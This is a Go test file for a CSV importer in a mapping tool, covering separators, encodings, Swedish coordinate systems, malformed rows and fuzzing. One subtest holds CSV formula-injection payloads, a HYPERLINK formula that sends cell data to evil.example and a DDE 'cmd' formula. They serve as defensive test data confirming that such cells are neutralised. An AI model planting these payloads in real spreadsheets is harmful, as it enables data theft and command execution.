package csv

import (
	"context"
	"errors"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/paulmach/orb"

	"nabar/internal/i18n"
	"nabar/internal/testdata"
	"nabar/model"
	"nabar/model/crs"
	"nabar/model/format"
)

// result is all that a file gave.
type result struct {
	info  format.LayerInfo
	rows  []model.Feature
	skips []format.Skip
}

// value gives a row's value by column name.
func (r result) value(t *testing.T, row int, column string) any {
	t.Helper()
	for i, f := range r.info.Fields {
		if f.Name == column {
			return r.rows[row].Values[i]
		}
	}
	t.Fatalf("no column %q in %v", column, r.info.Fields)
	return nil
}

// field gives a column's type.
func (r result) field(t *testing.T, column string) model.FieldType {
	t.Helper()
	for _, f := range r.info.Fields {
		if f.Name == column {
			return f.Type
		}
	}
	t.Fatalf("no column %q in %v", column, r.info.Fields)
	return ""
}

// readFile reads a whole file.
func readFile(t testing.TB, path string, opt format.Options) (result, error) {
	t.Helper()
	s, err := New().Open(context.Background(), path, opt)
	if err != nil {
		return result{}, err
	}
	defer s.Close()
	r := result{info: s.Layers()[0]}
	err = s.Read(context.Background(), r.info.Name, func(f model.Feature) error {
		r.rows = append(r.rows, f)
		return nil
	}, func(s format.Skip) { r.skips = append(r.skips, s) })
	return r, err
}

// readText reads a text as a file.
func readText(t testing.TB, text string, opt format.Options) (result, error) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "tabell.csv")
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return readFile(t, path, opt)
}

// mustRead reads a text that has to be readable.
func mustRead(t testing.TB, text string, opt format.Options) result {
	t.Helper()
	r, err := readText(t, text, opt)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// keys are the keys of messages.
func keys(ms []i18n.Message) []string {
	out := []string{}
	for _, m := range ms {
		out = append(out, m.Key)
	}
	return out
}

func TestGotlandServices(t *testing.T) {
	r, err := readFile(t, filepath.Join(testdata.Dir(t, "gotland"), "servicestallen_gotland.csv"), format.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(r.rows) != 77 || len(r.skips) != 0 || len(r.info.Warnings) != 0 {
		t.Fatalf("%d rows, %v skipped, warnings %v", len(r.rows), r.skips, r.info.Warnings)
	}
	want := format.Coordinates{X: "X", Y: "Y", Sure: true, Why: r.info.Coordinates.Why}
	if got := r.info.Coordinates; fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("coordinates %+v", got)
	}
	if r.info.CRS != crs.SWEREF99TM || !r.info.CRSKnown || r.info.Encoding != "utf-8" {
		t.Errorf("system %v (known %v), encoding %s", r.info.CRS, r.info.CRSKnown, r.info.Encoding)
	}
	if got := r.rows[0].Geometry; got != (orb.Point{692579.88, 6365042.35}) {
		t.Errorf("first position %v", got)
	}
	if r.rows[0].ID != 2 || r.rows[76].ID != 78 {
		t.Errorf("row numbers %d to %d, want 2 to 78", r.rows[0].ID, r.rows[76].ID)
	}
	if got := r.value(t, 1, "Namn"); got != "Coop Gråbo" {
		t.Errorf("name %q", got)
	}
}

func TestSquaresOfSweden(t *testing.T) {
	r, err := readFile(t, filepath.Join(testdata.Dir(t, "sverige"), "scb_befolkning_1km_2024.csv"), format.Options{})
	if err != nil {
		t.Fatal(err)
	}
	people := int64(0)
	for i := range r.rows {
		people += r.rows[i].Values[1].(int64)
	}
	if len(r.rows) != 103464 || people != 10560818 || len(r.skips) != 0 {
		t.Errorf("%d squares, %d people, %d skipped", len(r.rows), people, len(r.skips))
	}
	if got := r.field(t, "rutid_scb"); got != model.Text {
		t.Errorf("rutid_scb is %s", got)
	}
	if r.info.Geometry != model.NoGeometry || len(r.info.Warnings) != 0 {
		t.Errorf("geometry %q, warnings %v", r.info.Geometry, r.info.Warnings)
	}
}

// TestCorpus reads the files that break importers as their manifests say.
func TestCorpus(t *testing.T) {
	odd, hostile := filepath.Join(testdata.Dir(t, "corpus/odd"), "csv"), filepath.Join(testdata.Dir(t, "corpus/hostile"), "csv")
	read := func(t *testing.T, path string) result {
		t.Helper()
		r, err := readFile(t, path, format.Options{})
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	t.Run("BOM, CRLF, codes and nulls", func(t *testing.T) {
		r := read(t, filepath.Join(odd, "utf8_bom_crlf.csv"))
		nulls := 0
		for i := range r.rows {
			if r.value(t, i, "Folkmängd") == nil {
				nulls++
			}
		}
		if len(r.rows) != 25 || nulls != 7 || r.value(t, 0, "Kommun") != "0180" || len(r.info.Warnings) != 0 {
			t.Errorf("%d rows, %d nulls, warnings %v", len(r.rows), nulls, r.info.Warnings)
		}
		if r.rows[0].Geometry != (orb.Point{674000.25, 6580000.5}) || r.info.CRS != crs.SWEREF99TM || !r.info.Coordinates.Sure {
			t.Errorf("first at %v in %v", r.rows[0].Geometry, r.info.CRS)
		}
		if r.field(t, "Folkmängd") != model.Integer || r.field(t, "Andel äldre") != model.Real || r.field(t, "DeSO") != model.Text {
			t.Errorf("fields %v", r.info.Fields)
		}
	})
	t.Run("quoted line breaks and WKT", func(t *testing.T) {
		r := read(t, filepath.Join(odd, "quoted_newlines.csv"))
		if len(r.rows) != 6 || r.rows[0].Geometry != (orb.Point{18, 59.3}) || r.info.CRS != crs.WGS84 || r.info.Coordinates.WKT != "WKT" {
			t.Fatalf("%+v", r)
		}
		if r.value(t, 0, "text") != "rad 1\nrad \"2\"" || r.rows[1].ID != 4 {
			t.Errorf("text %q, second row on line %d", r.value(t, 0, "text"), r.rows[1].ID)
		}
	})
	t.Run("mixed encoding", func(t *testing.T) {
		r := read(t, filepath.Join(hostile, "mixed_encoding.csv"))
		if len(r.rows) != 21 || r.value(t, 0, "namn") != "Område 0 Åäö" || r.value(t, 20, "namn") != "Östermalm" {
			t.Errorf("%d rows, %q … %q", len(r.rows), r.value(t, 0, "namn"), r.value(t, 20, "namn"))
		}
		if len(r.info.Warnings) != 1 {
			t.Fatalf("warnings %v", r.info.Warnings)
		}
		w := i18n.For(i18n.Swedish).Text(r.info.Warnings[0])
		if r.info.Warnings[0].Key != "table.mixed_encoding" || !strings.Contains(w, "rad 22.") {
			t.Errorf("warning %q", w)
		}
	})
	t.Run("formulas stay text", func(t *testing.T) {
		r := read(t, filepath.Join(hostile, "formula_cells.csv"))
		want := []string{`=HYPERLINK("http://evil.example/?"&A1)`, "+46 8 123", "-5", "@SUM(A1)", "\t=1+1", "=cmd|' /C calc'!A0"}
		harmless := []string{"'" + want[0], "'+46 8 123", "-5", "'@SUM(A1)", "'\t=1+1", "'" + want[5]}
		if len(r.rows) != len(want) {
			t.Fatalf("%d rows: %v", len(r.rows), r.skips)
		}
		for i := range want {
			if got := r.value(t, i, "namn"); got != want[i] || Harmless(want[i]) != harmless[i] {
				t.Errorf("row %d: %q, exported as %q", i+1, got, Harmless(want[i]))
			}
		}
	})
	t.Run("a spreadsheet is no text", func(t *testing.T) {
		path := filepath.Join(hostile, "xlsx_renamed.csv")
		head, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if New().Match(head[:min(len(head), format.HeadSize)], path) {
			t.Error("it matched")
		}
		if _, err := readFile(t, path, format.Options{}); !errors.Is(err, i18n.Errorf("table.not_text")) {
			t.Errorf("error %v", err)
		}
	})
}

func TestShapesOfTable(t *testing.T) {
	tests := []struct {
		name, text string
		opt        format.Options
		fields     []string
		rows       int
		skips      map[int64]string
		warnings   []string
	}{
		{"semicolon", "a;b\n1;2,5\n2;3,5\n", format.Options{}, []string{"a", "b"}, 2, nil, nil},
		{"comma", "a,b\n1,\"2,5\"\n", format.Options{}, []string{"a", "b"}, 1, nil, nil},
		{"tab", "a\tb\n1\tx, y; z\n", format.Options{}, []string{"a", "b"}, 1, nil, nil},
		{"bar", "a|b\n1|2\n", format.Options{}, []string{"a", "b"}, 1, nil, nil},
		{"decimal commas in every cell", "a;b;c\n1,5;2,5;3,5\n1,5;2,5;3,5\n", format.Options{}, []string{"a", "b", "c"}, 2, nil, nil},
		{"Excel's own line", "sep=;\na;b\n1;2\n", format.Options{}, []string{"a", "b"}, 1, nil, nil},
		{"told separator", "a,b;c\n1,2;3\n", format.Options{Separator: ','}, []string{"a", "b;c"}, 1, nil, nil},
		{"no line end at the end", "a;b\r\n1;2", format.Options{}, []string{"a", "b"}, 1, nil, nil},
		{"lone CR", "a;b\r1;2\r3;4\r", format.Options{}, []string{"a", "b"}, 2, nil, nil},
		{"empty lines", "a;b\n\n1;2\n;\n", format.Options{}, []string{"a", "b"}, 1, nil, []string{"table.blank_rows"}},
		{"titles above", "Folkmängd 2024\nKälla: SCB\n\na;b;c\n1;2;3\n4;5;6\n", format.Options{}, []string{"a", "b", "c"}, 2, nil, []string{"table.titles_left_out"}},
		{"no heading", "Visby;1\nHemse;2\n", format.Options{}, []string{"kolumn_1", "kolumn_2"}, 2, nil, []string{"table.no_heading"}},
		{"told no heading", "a;b\nc;d\n", format.Options{NoHeader: true}, []string{"kolumn_1", "kolumn_2"}, 2, nil, []string{"table.no_heading"}},
		{"years as heading", "ort;2019;2020\nVisby;1;2\n", format.Options{}, []string{"ort", "2019", "2020"}, 1, nil, nil},
		{"same names", "Namn;namn;;Namn\na;b;c;d\n", format.Options{}, []string{"Namn", "namn_2", "kolumn_3", "Namn_3"}, 1, nil, nil},
		{"separator at line ends", "a;b\n1;2;\n3;4;\n", format.Options{}, []string{"a", "b"}, 2, nil, nil},
		{"ragged", "a;b;c\n1;2;3\n1;2\n1;2;3;4;5\n4;5;6\n", format.Options{}, []string{"a", "b", "c"}, 2, map[int64]string{3: "table.row_cells", 4: "table.row_long"}, nil},
		{"bare quote", "a;b\n1;Kiosk \"Hörnan\"\n2;\"x\"y\n3;ok\n", format.Options{}, []string{"a", "b"}, 2, map[int64]string{3: "table.row_bare_quote"}, nil},
		{"quote never closed", "a;b\n1;\"x\n2;y\n3;z\n", format.Options{}, []string{"a", "b"}, 2, map[int64]string{2: "table.row_open_quote"}, nil},
		{"zero byte", "a;b\n1;x\n2;y\x00\n3;z\n" + strings.Repeat("4;q\n", 5), format.Options{}, nil, 0, nil, nil},
		{"only a heading", "a;b\n", format.Options{}, []string{"a", "b"}, 0, nil, []string{"table.no_rows"}},
		{"quoted everything", "\"a\";\"b\"\n\"1\"; \"x;\"\"y\"\"\"\n", format.Options{}, []string{"a", "b"}, 1, nil, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r, err := readText(t, tt.text, tt.opt)
			if tt.fields == nil {
				if !errors.Is(err, i18n.Errorf("table.not_text")) {
					t.Errorf("error %v", err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			var names []string
			for _, f := range r.info.Fields {
				names = append(names, f.Name)
			}
			skips := map[int64]string{}
			for _, s := range r.skips {
				skips[s.Row] = s.Reason.Key
			}
			if !slices.Equal(names, tt.fields) || len(r.rows) != tt.rows || !maps.Equal(skips, tt.skips) || !slices.Equal(keys(r.info.Warnings), tt.warnings) {
				t.Errorf("fields %q, %d rows, skips %v, warnings %v", names, len(r.rows), skips, keys(r.info.Warnings))
			}
		})
	}
}

func TestPositions(t *testing.T) {
	visby := orb.Point{697149.5, 6391093.25}
	tests := []struct {
		name, text string
		opt        format.Options
		want       orb.Geometry
		system     crs.CRS
		known      bool
		sure       bool
		skips      map[int64]string
	}{
		{"Pipos", "n;X;Y\na;697149,5;6391093,25\n", format.Options{}, visby, crs.SWEREF99TM, true, true, nil},
		{"X is northing", "n;X;Y\na;6391093,25;697149,5\n", format.Options{}, visby, crs.SWEREF99TM, true, true, nil},
		{"N and E", "N;E\n6391093,25;697149,5\n", format.Options{}, visby, crs.SWEREF99TM, true, true, nil},
		{"N and E exchanged", "E;N\n6391093,25;697149,5\n", format.Options{}, visby, crs.SWEREF99TM, true, false, nil},
		{"thousands", "Öst;Nord\n697 149,5;6 391 093,25\n", format.Options{}, visby, crs.SWEREF99TM, true, true, nil},
		{"SWEREF columns before X and Y", "x;y;SWEREF99TM_E;SWEREF99TM_N\n1;2;697149.5;6391093.25\n", format.Options{}, visby, crs.SWEREF99TM, true, true, nil},
		{"latitude", "lat;long\n57.64;18.3\n", format.Options{}, orb.Point{18.3, 57.64}, crs.WGS84, true, true, nil},
		{"latitude elsewhere", "latitude,longitude\n-33.9,151.2\n", format.Options{}, orb.Point{151.2, -33.9}, crs.WGS84, true, false, nil},
		{"RT 90", "x_rt90;y_rt90\n6580994;1628294\n", format.Options{}, orb.Point{1628294, 6580994}, mustCRS(t, 3021), true, true, nil},
		{"local zone told by name", "sweref99_1800_e;sweref99_1800_n\n153000;6580000\n", format.Options{}, orb.Point{153000, 6580000}, mustCRS(t, 3011), true, true, nil},
		{"local zone, which?", "E;N\n153000;6580000\n", format.Options{}, orb.Point{153000, 6580000}, crs.CRS{}, false, true, nil},
		{"by values alone", "a;b;c\n697149,5;6391093,25;7\n", format.Options{}, visby, crs.SWEREF99TM, true, false, nil},
		{"told columns", "p;q;X;Y\n697149,5;6391093,25;700000;6400000\n", format.Options{Mapping: model.Mapping{"x": "p", "y": "Q"}}, visby, crs.SWEREF99TM, true, true, nil},
		{"told system", "X;Y\n18.3;57.64\n", format.Options{CRS: "EPSG:4326"}, orb.Point{18.3, 57.64}, crs.WGS84, true, true, nil},
		{"counts are no coordinates", "ort;x;y\nVisby;12;5\nHemse;3;4\n", format.Options{}, nil, crs.CRS{}, false, false, nil},
		{"WKT with SRID", "a;geom\n1;SRID=3006;POINT(1 2)\n", format.Options{Separator: ','}, nil, crs.CRS{}, false, false, nil},
		{"extended WKT", "a,geom\n1,SRID=3006;POINT Z (697149.5 6391093.25 12)\n", format.Options{}, visby, crs.SWEREF99TM, true, true, nil},
		{"WKT with latitude first", "a,wkt\n1,POINT(57.64 18.3)\n", format.Options{}, orb.Point{18.3, 57.64}, crs.WGS84, true, false, nil},
		{
			"rows without a place", "n;X;Y\na;697149,5;6391093,25\nb;;6391093\nc;saknas;6391093\nd;0;0\ne;6391093;697149\nf;1;2\ng;697150;6391093\nh;697150;6391093\ni;697150;6391093\nj;697150;6391093\nk;697150;6391093\nl;697150;6391093\nm;697150;6391093\nn;697150;6391093\no;697150;6391093\np;697150;6391093\nq;697150;6391093\nr;697150;6391093\n",
			format.Options{},
			visby, crs.SWEREF99TM, true, true,
			map[int64]string{3: "table.no_position", 4: "table.bad_coordinate", 5: "table.zero_position", 6: "table.row_swapped", 7: "table.far_position"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := mustRead(t, tt.text, tt.opt)
			skips := map[int64]string{}
			for _, s := range r.skips {
				skips[s.Row] = s.Reason.Key
			}
			if !maps.Equal(skips, tt.skips) {
				t.Errorf("skips %v, want %v", skips, tt.skips)
			}
			if len(r.rows) == 0 || !orb.Equal(r.rows[0].Geometry, tt.want) {
				t.Fatalf("rows %+v, want one at %v", r.rows, tt.want)
			}
			if tt.known && r.info.CRS != tt.system || r.info.CRSKnown != tt.known || r.info.Coordinates.Sure != tt.sure {
				t.Errorf("system %v (known %v), coordinates %+v", r.info.CRS, r.info.CRSKnown, r.info.Coordinates)
			}
		})
	}
}

// mustCRS gives a system by its code.
func mustCRS(t *testing.T, code int) crs.CRS {
	t.Helper()
	c, ok := crs.ByEPSG(code)
	if !ok {
		t.Fatalf("no EPSG:%d", code)
	}
	return c
}

func TestEncodings(t *testing.T) {
	utf16 := func(mark string, order int) string {
		b := []byte(mark)
		for _, r := range "ort;namn\n1;Åmål\n" {
			pair := []byte{byte(r), byte(r >> 8)}
			b = append(b, pair[order], pair[1-order])
		}
		return string(b)
	}
	tests := []struct {
		name, text, told, want string
		warnings               []string
	}{
		{"ascii", "ort;namn\n1;Aland\n", "", "utf-8", nil},
		{"utf-8", "ort;namn\n1;Åmål\n", "", "utf-8", nil},
		{"windows-1252", "ort;namn\n1;\xc5m\xe5l\n", "", "windows-1252", nil},
		{"utf-16 with mark", utf16("\xff\xfe", 0), "", "utf-16le", nil},
		{"utf-16, other order", utf16("\xfe\xff", 1), "", "utf-16be", nil},
		{"utf-16 without mark", utf16("", 0), "", "utf-16le", nil},
		{"DOS", "ort;namn\n1;\x8fm\x86l\n", "", "cp850", []string{"table.encoding_guessed"}},
		{"told DOS", "ort;namn\n1;\x8fm\x86l\n", "CP850", "cp850", nil},
		{"told Macintosh", "ort;namn\n1;\x81m\x8cl\n", "macintosh", "macintosh", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := mustRead(t, tt.text, format.Options{Encoding: tt.told})
			if name := r.value(t, 0, "namn"); (name != "Åmål" && tt.name != "ascii") || r.info.Encoding != tt.want || !slices.Equal(keys(r.info.Warnings), tt.warnings) && tt.warnings != nil {
				t.Errorf("%q in %s, warnings %v", name, r.info.Encoding, r.info.Warnings)
			}
		})
	}
}

func TestProblems(t *testing.T) {
	tests := []struct {
		name, text, want string
		opt              format.Options
	}{
		{"empty", "", "table.empty", format.Options{}},
		{"white space", " \r\n\n", "table.empty", format.Options{}},
		{"running text", "Det här är en fil.\nDen innehåller text, och ingen tabell.\nSlut.\n", "table.no_columns", format.Options{}},
		{"zero bytes", "a;b\n1;\x00\x01\n", "table.not_text", format.Options{}},
		{"too many columns", strings.Repeat("a;", 2500) + "a\n", "table.too_many_columns", format.Options{}},
		{"unknown encoding", "a;b\n1;2\n", "table.unknown_encoding", format.Options{Encoding: "klingon"}},
		{"odd separator", "a;b\n1;2\n", "table.bad_separator", format.Options{Separator: 'å'}},
		{"unknown column", "a;b\n1;2\n", "table.no_such_column", format.Options{Mapping: model.Mapping{"x": "q", "y": "b"}}},
		{"one coordinate", "a;b\n1;2\n", "table.one_coordinate", format.Options{Mapping: model.Mapping{"x": "a"}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := readText(t, tt.text, tt.opt)
			var p *i18n.Problem
			if !errors.As(err, &p) || p.Key != tt.want {
				t.Errorf("error %v, want %s", err, tt.want)
			}
		})
	}
}

func TestMatch(t *testing.T) {
	tests := []struct {
		name, head string
		want       bool
	}{
		{"a.csv", "a;b\n1;2\n", true},
		{"a.dat", "a;b\n1;2\n", true},
		{"a.dat", "Bara text.\nMer text.\n", false},
		{"a.csv", "\xff\xfea\x00;\x00b\x00\n\x00", true},
		{"a.csv", "PK\x03\x04\x00\x00", false},
		{"a.csv", `{"type":"FeatureCollection"}`, false},
		{"a.csv", "<?xml version='1.0'?>", false},
		{"a.csv", "SQLite format 3\x00", false},
		{"a.csv", "", false},
	}
	for _, tt := range tests {
		if got := New().Match([]byte(tt.head), tt.name); got != tt.want {
			t.Errorf("%s with %q: %v", tt.name, tt.head, got)
		}
	}
}

func TestCancel(t *testing.T) {
	path := filepath.Join(t.TempDir(), "a.csv")
	if err := os.WriteFile(path, []byte("a;b\n"+strings.Repeat("1;2\n", 5000)), 0o600); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	s, err := New().Open(ctx, path, format.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	n := 0
	err = s.Read(ctx, "", func(model.Feature) error { n++; cancel(); return nil }, func(format.Skip) {})
	if !errors.Is(err, context.Canceled) || n > format.CheckEvery {
		t.Errorf("%d rows after the cancel, error %v", n, err)
	}
	if _, err := New().Open(ctx, path, format.Options{}); !errors.Is(err, context.Canceled) {
		t.Errorf("opening with a dead context: %v", err)
	}
	enough := errors.New("enough")
	if err := s.Read(context.Background(), "", func(model.Feature) error { return enough }, func(format.Skip) {}); !errors.Is(err, enough) {
		t.Errorf("an error of yield came back as %v", err)
	}
}

// TestLongLine bounds what one line may take.
func TestLongLine(t *testing.T) {
	r := mustRead(t, "a;b\n1;2\n"+strings.Repeat("x", maxRecord+10)+"\n3;4\n", format.Options{})
	if len(r.rows) != 2 || len(r.skips) != 1 || r.skips[0].Row != 3 || r.skips[0].Reason.Key != "table.row_too_long" || r.rows[1].ID != 4 {
		t.Errorf("%d rows, skips %v", len(r.rows), r.skips)
	}
}

func FuzzRead(f *testing.F) {
	f.Add([]byte("n;X;Y\na;697149,5;6391093,25\n\"b\n\"\"c\";1;2\n"))
	f.Add([]byte("\xef\xbb\xbfa\tWKT\r\n1\tPOLYGON((1 2,3 4,5 6))\r\n"))
	f.Add([]byte("sep=|\na|b\n1|\"x\n"))
	f.Add([]byte("\xff\xfea\x00;\x00b\x00\n\x001\x00;\x00\xc5\x00\n\x00"))
	f.Fuzz(func(t *testing.T, data []byte) {
		path := filepath.Join(t.TempDir(), "f.csv")
		if err := os.WriteFile(path, data, 0o600); err != nil {
			t.Fatal(err)
		}
		r, err := readFile(t, path, format.Options{})
		if err == nil && len(r.rows)+len(r.skips) != r.info.Features {
			t.Errorf("%d rows and %d skipped of %d", len(r.rows), len(r.skips), r.info.Features)
		}
		for _, row := range r.rows {
			if len(row.Values) != len(r.info.Fields) {
				t.Fatalf("row of %d values for %d fields", len(row.Values), len(r.info.Fields))
			}
		}
	})
}

func BenchmarkSquaresOfSweden(b *testing.B) {
	path := filepath.Join(testdata.Dir(b, "sverige"), "scb_befolkning_1km_2024.csv")
	b.ReportAllocs()
	for b.Loop() {
		if r, err := readFile(b, path, format.Options{}); err != nil || len(r.rows) != 103464 {
			b.Fatal(err)
		}
	}
}
